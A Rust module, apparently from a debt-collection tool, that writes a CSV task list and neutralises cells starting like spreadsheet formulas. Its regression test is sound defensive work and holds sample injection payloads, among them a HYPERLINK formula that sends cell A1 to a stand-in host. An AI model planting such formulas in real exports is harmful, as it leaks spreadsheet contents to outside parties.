//! Phone calls and court routes are work for people: rows of a CSV task list
//! the team opens in a spreadsheet. The columns are fixed (see
//! `docs/templates.md`); amounts are plain decimals with a point so that any
//! spreadsheet reads them.

use chrono::NaiveDate;
use rust_decimal::Decimal;
use serde::Serialize;

use crate::diagnostic::{Code, Diagnostic};

/// The header, in column order.
pub(crate) const COLUMNS: [&str; 18] = [
    "date",
    "debtor",
    "debtor_name",
    "invoices",
    "step",
    "action",
    "target",
    "procedure",
    "amount_claimed",
    "currency",
    "phone",
    "email",
    "address",
    "note",
    "deadline",
    "principal",
    "interest",
    "indemnity",
];

/// One task for the team.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct TaskRow {
    /// The day the task falls due.
    pub date: NaiveDate,
    /// The debtor's id.
    pub debtor: String,
    pub debtor_name: String,
    /// Invoice numbers, separated by spaces.
    pub invoices: String,
    /// Where it comes from in the policy: `fr-b2b.policy:21 call debtor`.
    pub step: String,
    /// `call` or `route`.
    pub action: String,
    /// Whom to call (`debtor`, `guarantor`), or the court/lawyer/bailiff.
    pub target: String,
    /// The procedure of a route (`injonction_de_payer`), empty otherwise.
    pub procedure: String,
    /// Principal, indemnity and interest as of `date`.
    pub amount_claimed: Decimal,
    pub currency: String,
    pub phone: String,
    pub email: String,
    pub address: String,
    pub note: String,
    /// A proof of claim's last day; empty for other tasks.
    pub deadline: Option<NaiveDate>,
    /// A proof of claim's breakdown as of the opening judgment; empty for
    /// other tasks.
    pub principal: Option<Decimal>,
    pub interest: Option<Decimal>,
    pub indemnity: Option<Decimal>,
}

/// The header line: plain names, which need no quotes.
fn header() -> Vec<u8> {
    let mut line = COLUMNS.join(",").into_bytes();
    line.push(b'\n');
    line
}

impl TaskRow {
    /// The row with every text cell neutralised: debtor data (a name, a
    /// phone number) must never run as a formula in the team's spreadsheet.
    fn for_spreadsheet(&self) -> TaskRow {
        let cell = |text: &String| crate::spreadsheet::neutralise(text).into_owned();
        TaskRow {
            date: self.date,
            debtor: cell(&self.debtor),
            debtor_name: cell(&self.debtor_name),
            invoices: cell(&self.invoices),
            step: cell(&self.step),
            action: cell(&self.action),
            target: cell(&self.target),
            procedure: cell(&self.procedure),
            amount_claimed: self.amount_claimed,
            currency: cell(&self.currency),
            phone: cell(&self.phone),
            email: cell(&self.email),
            address: cell(&self.address),
            note: cell(&self.note),
            deadline: self.deadline,
            principal: self.principal,
            interest: self.interest,
            indemnity: self.indemnity,
        }
    }
}

/// The rows as CSV bytes, with the header line. Every text cell is quoted
/// (so that a `;`, the list separator of a French spreadsheet, never splits
/// one) and neutralised when it starts like a formula
/// ([`crate::spreadsheet`]); amounts are bare numbers.
pub fn csv(rows: &[TaskRow]) -> Result<Vec<u8>, Diagnostic> {
    let mut writer = csv::WriterBuilder::new()
        .has_headers(false)
        .quote_style(csv::QuoteStyle::NonNumeric)
        .from_writer(header());
    let fail = |e: csv::Error| {
        Diagnostic::error(
            Code::WriteFailed,
            format!("cannot write the task list: {e}"),
        )
    };
    for row in rows {
        writer.serialize(row.for_spreadsheet()).map_err(fail)?;
    }
    writer.into_inner().map_err(|e| fail(e.into_error().into()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row() -> TaskRow {
        TaskRow {
            date: "2026-11-23".parse().unwrap(),
            debtor: "ACME".into(),
            debtor_name: "ACME, Sàrl".into(),
            invoices: "F-1 F-2".into(),
            step: "lu-b2b.policy:22 call debtor".into(),
            action: "call".into(),
            target: "debtor".into(),
            procedure: String::new(),
            amount_claimed: "1234.50".parse().unwrap(),
            currency: "EUR".into(),
            phone: "352 1".into(),
            email: "a@b.lu".into(),
            address: "1 rue X\nL-1000".into(),
            note: "dit \"rappeler\"".into(),
            deadline: None,
            principal: None,
            interest: None,
            indemnity: None,
        }
    }

    #[test]
    fn text_is_quoted_and_amounts_are_numbers() {
        let text = String::from_utf8(csv(&[row()]).unwrap()).unwrap();
        assert_eq!(
            text,
            "date,debtor,debtor_name,invoices,step,action,target,procedure,amount_claimed,currency,phone,email,address,note,deadline,principal,interest,indemnity\n\
             \"2026-11-23\",\"ACME\",\"ACME, Sàrl\",\"F-1 F-2\",\"lu-b2b.policy:22 call debtor\",\"call\",\"debtor\",\"\",1234.50,\"EUR\",\"352 1\",\"a@b.lu\",\"1 rue X\nL-1000\",\"dit \"\"rappeler\"\"\",\"\",\"\",\"\",\"\"\n"
        );
    }

    /// Issue 17: debtor data went verbatim into the task list, so a phone
    /// `=HYPERLINK(…)` became a live formula in the team's spreadsheet.
    #[test]
    fn cells_that_start_like_formulas_are_neutralised() {
        let mut row = row();
        row.phone = "=HYPERLINK(\"http://x\"&A1,\"click\")".into();
        row.debtor = "+D1".into();
        row.debtor_name = "=1+2".into();
        row.invoices = "-F1 @F2".into();
        row.address = "@home".into();
        row.note = "\t=1".into();
        row.email = "x;=1+2@y.lu".into();
        row.amount_claimed = "-12.50".parse().unwrap();
        let text = String::from_utf8(csv(&[row]).unwrap()).unwrap();
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        let cell =
            |name: &str| record[COLUMNS.iter().position(|c| *c == name).unwrap()].to_string();
        assert_eq!(cell("phone"), "'=HYPERLINK(\"http://x\"&A1,\"click\")");
        assert_eq!(cell("debtor"), "'+D1");
        assert_eq!(cell("debtor_name"), "'=1+2");
        assert_eq!(cell("invoices"), "'-F1 @F2");
        assert_eq!(cell("address"), "'@home");
        assert_eq!(cell("note"), "'\t=1");
        // A `;` (the list separator of a French spreadsheet) is inside quotes.
        assert!(text.contains("\"x;=1+2@y.lu\""), "{text}");
        // The amount stays a number.
        assert!(text.contains(",-12.50,"), "{text}");
    }
}
